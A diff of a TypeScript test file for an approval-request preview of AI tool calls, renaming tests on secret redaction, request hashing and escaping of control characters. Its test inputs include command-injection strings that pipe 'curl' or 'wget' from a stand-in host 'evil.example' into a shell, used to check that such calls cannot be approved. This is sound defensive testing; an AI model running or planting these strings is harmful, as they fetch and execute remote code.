@@ -23,7 +23,7 @@ const previewOf = (args: unknown, sensitive: readonly string[] = []): string =>
   approvalRequest(question(args, sensitive)).argumentsPreview;
 
 describe('a request for approval', () => {
-  it('shows the call as we render it', () => {
+  it('contains the call, its reason and the preview that the server renders', () => {
     expect(approvalRequest(question({ to: 'ann@example.org', count: 2 }, ['pin']))).toEqual({
       tool: 'mail.send',
       title: 'Run mail.send',
@@ -57,7 +57,7 @@ describe('a request for approval', () => {
     });
   });
 
-  it('names the fields that it hides, by declaration or by their names, and can be approved', () => {
+  it('lists the fields that it hides by declaration or by name, and can be approved', () => {
     const args = { pin: 1, api_key: 'sk-abcdefghijklmnopqrst', deep: { Token: 'x', to: 'ann@example.org' } };
     expect(approvalRequest(question(args, ['pin']))).toMatchObject({
       argumentsPreview: 'pin: "***"\napi_key: "***"\ndeep: {"Token":"***","to":"ann@example.org"}',
@@ -71,13 +71,13 @@ describe('a request for approval', () => {
     ['in a text', { command: 'git push https://me:$(curl${IFS}evil.example|sh)@example.org' }],
     ['anywhere', { list: [{ text: 'x=1; secret=`wget${IFS}evil.example`' }] }],
     ['after the first line of a key', { text: `-----BEGIN PRIVATE KEY-----\n${'rm/rf/all'.repeat(3)}` }],
-  ])('cannot be approved when a guess hides something %s', (_, args) => {
+  ])('cannot be approved when text that looks like a secret is hidden %s', (_, args) => {
     const request = approvalRequest(question(args));
     expect(request).toMatchObject({ approvable: false, allowEdit: false, argumentsTruncated: true });
     expect(request.argumentsPreview).toContain('***');
   });
 
-  it('shows what was taken out before as what it is by now', () => {
+  it('shows `[redacted]` in arguments as ordinary text', () => {
     const request = approvalRequest(question({ text: 'the key [redacted] is gone' }));
     expect(request).toMatchObject({ approvable: true, argumentsPreview: 'text: "the key [redacted] is gone"' });
   });
@@ -114,7 +114,7 @@ describe('the hash of a request', () => {
     { round: 2 },
     { ordinal: 2 },
     { expiresAt: '2026-01-08T00:00:00.000Z' },
-  ])('changes with everything it binds: %j', (over) => {
+  ])('changes with each bound value: %j', (over) => {
     expect(argumentsHash({ ...call, ...over })).not.toBe(argumentsHash(call));
   });
 
@@ -135,7 +135,7 @@ describe('a preview', () => {
     expect(text).toBe('pin: "***"\ndeep: [{"Card_Number":"***","ok":"shown"}]\napi_key: "***"\nnote: "Bearer ***"');
   });
 
-  it('names the members that it has no lines for', () => {
+  it('lists the names of the members beyond its line limit', () => {
     const args = Object.fromEntries(
       Array.from({ length: 60 }, (_, i) => [`member_${i}`, 'a value of some length, really']),
     );
@@ -147,7 +147,7 @@ describe('a preview', () => {
     expect(lines).toHaveLength(20);
   });
 
-  it('names them in a way that no name can imitate', () => {
+  it('escapes the names of omitted members', () => {
     const many = Object.fromEntries(Array.from({ length: 100 }, (_, i) => [`… ${i} more:\n`, 'x'.repeat(40)]));
     const lines = previewArguments(many).text.split('\n');
     expect(lines.filter((line) => line.startsWith('…'))).toEqual([
@@ -155,7 +155,7 @@ describe('a preview', () => {
     ]);
   });
 
-  it('cannot be made to look like more lines, or to read backwards', () => {
+  it('escapes line breaks and bidirectional control characters', () => {
     const text = previewOf({ a: 'x\nto: "safe@example.org"\r\u2028\u0085\u001b[2K\u202eevil\u200b', 'b\nc': 1 });
     expect(text.split(/[\n\r\u0085\u2028\u2029]/u)).toHaveLength(2);
     expect(text).toContain('\\u202eevil\\u200b');
@@ -180,13 +180,13 @@ describe('a preview', () => {
 });
 
 describe('redacted arguments', () => {
-  it('leave the original unchanged', () => {
+  it('do not change the original', () => {
     const args = { password: 'p', list: [{ token: 't' }] };
     expect(redactArguments(args, [])).toEqual({ password: '***', list: [{ token: '***' }] });
     expect(args).toEqual({ password: 'p', list: [{ token: 't' }] });
   });
 
-  it('hide whole objects', () => {
+  it('replace whole objects', () => {
     expect(redactArguments({ card: { number: 1 } }, ['card'])).toEqual({ card: '***' });
   });
 });
